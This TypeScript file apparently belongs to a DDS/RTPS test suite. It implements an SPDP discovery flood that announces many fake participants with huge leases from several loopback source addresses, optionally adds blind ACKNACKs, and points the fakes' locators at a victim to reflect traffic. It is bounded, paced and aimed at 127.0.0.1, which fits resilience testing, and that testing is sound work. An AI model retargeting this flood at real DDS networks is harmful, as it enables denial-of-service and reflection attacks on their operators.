// An SPDP flood as an attacker sends it: announcements of made-up participants (random GUID
// prefixes, lease 0x7fffffff s) over real UDP to a participant's SPDP port, from several source
// addresses in 127.0.0.0/8. Bounded in count and paced, so it ends by itself.
import dgram from 'node:dgram';
import { acknack, Bytes, ENTITY, sn, spdpDatagram } from './rtps-fuzz/datagrams.js';
import { prng } from './rtps-fuzz/prng.js';

/** The longest lease SPDP can say: 0x7fffffff seconds (68 years). */
export const HUGE_LEASE_SEC = 0x7fffffff;

/** Where a spoofed participant says it receives: a victim's address and port (127.0.0.1:9, the discard port, by default). */
export interface VictimLocator {
  address: string;
  port: number;
}

/** One SPDP datagram announcing a participant with prefix `prefix` (12 bytes); its locators point at `at`. */
export function spoofedSpdp(prefix: Buffer, domainId: number, leaseSec = HUGE_LEASE_SEC, at: VictimLocator = { address: '127.0.0.1', port: 9 }): Buffer {
  return spdpDatagram(prefix, domainId, at.port, leaseSec, at.address.split('.').map(Number));
}

export interface FloodOptions {
  /** Where to send (the target's SPDP / metatraffic port on 127.0.0.1). */
  ports: number[];
  domainId: number;
  /** Spoofed participants in total. */
  count: number;
  /** Source addresses to spread the flood over (127.0.0.x, bound locally). */
  sources: string[];
  /** Datagrams sent per batch before yielding to the event loop. */
  batch?: number;
  /** Pause between batches (ms). */
  pauseMs?: number;
  seed?: number;
  leaseSec?: number;
  /** Stops early when true (checked between batches). */
  stop?: () => boolean;
  /**
   * Each announcement followed, in its datagram, by a blind ACKNACK (SN 1) from the fake's SEDP publications reader
   * to the target's writer: what used to prove a participant (issue 66).
   */
  blindAcknack?: boolean;
  /** Where every fake says it receives (the discard port by default): a victim the flood would reflect traffic to. */
  victim?: VictimLocator;
  /** Bytes sent are added here (the attacker's cost, for amplification figures). */
  sentBytes?: { n: number };
}

/** A blind ACKNACK from `prefix`'s SEDP publications reader, appended to an SPDP datagram of it. */
function withBlindAcknack(d: Buffer, count: number): Buffer {
  const tail = acknack(new Bytes(), { readerId: ENTITY.PUB_READER, writerId: ENTITY.PUB_WRITER, base: sn(1n), numBits: 0, words: [], count });
  return Buffer.concat([d, tail.done()]);
}

/** Sends the flood; resolves with the number of datagrams sent once done. */
export async function floodSpdp(o: FloodOptions): Promise<number> {
  const rand = prng(o.seed ?? 12345);
  const sockets = await Promise.all(
    o.sources.map(
      (address) =>
        new Promise<dgram.Socket>((resolve, reject) => {
          const s = dgram.createSocket('udp4');
          s.once('error', reject);
          s.bind(0, address, () => resolve(s));
        }),
    ),
  );
  const batch = o.batch ?? 50;
  let sent = 0;
  try {
    while (sent < o.count && !o.stop?.()) {
      const pending: Promise<void>[] = [];
      for (let i = 0; i < batch && sent < o.count; i++, sent++) {
        const prefix = Buffer.alloc(12);
        for (let j = 0; j < 12; j++) prefix[j] = Math.floor(rand() * 256);
        const spdp = spoofedSpdp(prefix, o.domainId, o.leaseSec, o.victim);
        const d = o.blindAcknack ? withBlindAcknack(spdp, sent + 1) : spdp;
        const s = sockets[sent % sockets.length];
        if (o.sentBytes) o.sentBytes.n += d.length * o.ports.length;
        for (const port of o.ports) pending.push(new Promise((resolve) => s.send(d, port, '127.0.0.1', () => resolve())));
      }
      await Promise.all(pending);
      await new Promise((r) => setTimeout(r, o.pauseMs ?? 5));
    }
  } finally {
    for (const s of sockets) s.close();
  }
  return sent;
}
